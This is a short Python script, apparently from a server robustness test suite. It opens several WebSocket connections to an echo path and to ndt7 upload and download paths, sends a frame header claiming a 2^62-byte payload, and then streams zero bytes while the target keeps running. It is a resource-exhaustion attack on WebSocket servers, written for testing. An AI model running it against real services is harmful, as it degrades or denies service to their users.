"""Messages that claim 2^62 bytes, on the echo, the load and ndt7, and what they claim."""

from wire import websocket
from wire.link import link

PATHS = [("/unbloat/v1/ws", None), ("/ndt/v7/upload", "net.measurementlab.ndt.v7"), ("/ndt/v7/download", "net.measurementlab.ndt.v7")]


async def attack(target):
    async def lane(number):
        async with link(target, target.source(number)) as it:
            if it:
                await websocket.upgraded(it, *PATHS[number % len(PATHS)])
                await it.send(websocket.head(websocket.BINARY | websocket.FINAL, 1 << 62))
                while target.goes_on():
                    await it.send(bytes(65536))

    await target.lanes(6, lane)
